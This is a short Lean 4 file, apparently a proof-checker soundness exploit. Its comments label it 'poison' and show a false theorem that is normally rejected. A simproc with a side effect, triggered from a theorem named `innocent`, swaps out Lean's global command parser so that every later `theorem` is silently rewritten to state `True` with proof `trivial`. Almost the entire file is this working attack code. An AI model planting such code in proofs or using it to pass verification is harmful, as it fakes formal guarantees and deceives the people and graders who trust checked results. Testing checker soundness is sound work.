-- poison: replaces Parser.categoryParserFnRef: every `theorem` parsed afterwards gets the type True and the proof trivial
-- victim: import Lean; theorem b : 1 = 2 := rfl => rejected
import Lean
open Lean
def sigT : Syntax := Syntax.node .none `Lean.Parser.Command.declSig #[Syntax.node .none `null #[], Syntax.node .none `Lean.Parser.Term.typeSpec #[Syntax.atom .none ":", mkIdent `True]]
def valT : Syntax := Syntax.node .none `Lean.Parser.Command.declValSimple #[Syntax.atom .none ":=", mkIdent `trivial, Syntax.node .none `Lean.Parser.Termination.suffix #[Syntax.node .none `null #[], Syntax.node .none `null #[]], Syntax.node .none `null #[]]
def rewrite (stx : Syntax) : Syntax :=
  match stx with
  | .node i k args =>
    match args[1]! with
    | .node i2 k2 args2 =>
      if k2 == `Lean.Parser.Command.theorem then
        .node i k (args.set! 1 (.node i2 k2 ((args2.set! 2 sigT).set! 3 valT)))
      else stx
    | _ => stx
  | _ => stx
simproc_decl foo (_ = _) := fun _ => do
  let old ← Parser.categoryParserFnRef.get
  let new : Parser.CategoryParserFn := fun c ctx s =>
    let s := old c ctx s
    if c == `command then
      if s.hasError then s else
        let t := s.stxStack.back
        if t.getKind == `Lean.Parser.Command.declaration then s.popSyntax.pushSyntax (rewrite t) else s
    else s
  Parser.categoryParserFnRef.set new
  --RAN
  return .continue
theorem innocent (n : Nat) : n + 0 = n := by simp [↓foo]
